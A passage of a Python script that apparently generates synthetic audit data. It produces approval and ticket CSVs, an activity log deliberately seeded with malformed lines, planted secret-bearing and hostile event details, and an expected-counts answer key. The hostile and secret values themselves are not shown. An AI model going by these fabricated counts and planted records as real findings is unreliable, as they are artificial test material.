        tick = [[t["id"], t["status"]] + [fmt(t[k], i, 1) for k in ("opened", "closed", "ps", "pe")]
                + [t["assignee"]] for i, t in enumerate(self.tickets)]
        h_appr, h_tick, h_lines, approvers = hygiene_rows({a["approver"] for a in self.approvals
                                                           if a["approver"]})
        appr, tick = appr + h_appr, tick + h_tick
        hist = [[t["id"], fmt(ts, i, 1), s] for i, t in enumerate(self.tickets) for ts, s in t["hist"] or []]
        for name, cols, rows in (("approvals", APPROVAL_COLS, appr), ("tickets", TICKET_COLS, tick),
                                 ("ticket_history", "ticket_id ts status", hist),
                                 ("approvers", "approver scope kinds", approvers)):
            with open(os.path.join(out, f"{name}.csv"), "w", newline="", encoding="utf-8") as fh:
                csv.writer(fh, lineterminator="\n").writerows([cols.split()] + rows)

        ev = sorted(self.events, key=lambda e: e["t"])
        special = r.sample([i for i, e in enumerate(ev) if not e["keep"]], 70)   # format quirks
        epoch, offset, naive = set(special[:12]), set(special[12:42]), set(special[42:44])
        bad, no_acct, dups, taken = special[44:47], special[47:50], special[50:70], set(special)
        taken |= {i for i, e in enumerate(ev) if e["keep"]}    # risky(): kept as written
        plain = lambda accts: [i for i, e in enumerate(ev) if i not in taken and e["account"] in accts
                               and e["action"] in ("ssh.command", "sudo")]
        for i, detail in zip(r.sample(plain(PEOPLE), 19), SECRETS * 2 + HOSTILE):
            ev[i]["detail"] = detail
        for i, actor in zip(r.sample(plain(["svc-ci"]), 2), HOSTILE_ACTORS):
            ev[i]["actor"] = actor
        lines = []
        for i, e in enumerate(ev):
            d = {"event_id": f"ev-{i + 1:06d}", "ts": int(e["t"].timestamp() * 1000) if i in epoch
                 else e["t"].strftime("%Y-%m-%dT%H:%M:%S") if i in naive
                 else iso(e["t"], OFFSETS[i % 2] if i in offset else None)}
            d.update((k, v) for k, v in e.items() if k not in ("t", "keep") and v is not None)
            if e["action"] == "ssh.login_failed":
                d["outcome"] = "failure"            # a failed attempt, not work done
            if e["account"] == "svc-logship":
                d["session_id"] = None              # this shipper writes explicit nulls
            if i in no_acct:                        # two without the key, one null
                d.pop("account") if i != no_acct[2] else d.update(account=None)
            line = json.dumps(d, separators=(",", ":"))
            if i in bad:                            # truncated, a stray syslog line, Python repr
                line = [line[:len(line) // 2], f"{e['t']:%b %d %H:%M:%S} {e['target']} sshd[2211]: "
                        f"Accepted publickey for {e['account']}", str(d)][bad.index(i)]
            lines.append(((i, 0), line))
        lines += [((i + r.randint(1, 4), 1), lines[i][1]) for i in dups]
        lines.sort(key=lambda x: x[0])
        lines += [(None, line) for line in h_lines]     # the hygiene examples, at the end
        with open(os.path.join(out, "activity.jsonl"), "w", encoding="utf-8") as fh:
            fh.writelines(line + "\n" for _, line in lines)

        by = lambda rows, col: dict(sorted(Counter(row[col] for row in rows).items()))
        expected = {"seed": seed, "approvals.csv": dict(
            rows=len(appr), end_before_start=2, rows_with_offset_timestamps=len(offs[0]), by_kind=by(appr, 8),
            by_status=by(appr, 9)), "tickets.csv": dict(
            rows=len(tick), with_history=len({h[0] for h in hist}), rows_with_offset_timestamps=len(offs[1]),
            by_status=by(tick, 1)), "ticket_history.csv": dict(rows=len(hist)),
            "approvers.csv": dict(rows=len(approvers)), "activity.jsonl": dict(
            lines=len(lines), invalid_json=len(bad), missing_account=len(no_acct),
            zoneless_timestamp=len(naive), exact_duplicate_lines=len(dups),
            distinct_valid_events=len(ev) + len(h_lines) - len(bad) - len(no_acct) - len(naive),
            epoch_ms_timestamps=len(epoch), offset_timestamps=len(offset),
            details_with_secrets=len(SECRETS) * 2, hostile_details=len(HOSTILE),
            hostile_targets=len(HOSTILE_TARGETS), hostile_actors=len(HOSTILE_ACTORS))}
        with open(os.path.join(out, "expected_counts.json"), "w", encoding="utf-8") as fh:
            fh.write(json.dumps(expected, indent=2) + "\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--seed", type=int, default=47)
    ap.add_argument("--out", default=OUT, help="output folder (default: beside this script)")
    args = ap.parse_args()
    g = Gen(args.seed)
    for step in (g.humans, g.services, g.trouble, g.risky, g.noise_tickets):
        step()
    g.write(args.out, args.seed)


if __name__ == "__main__":
    main()
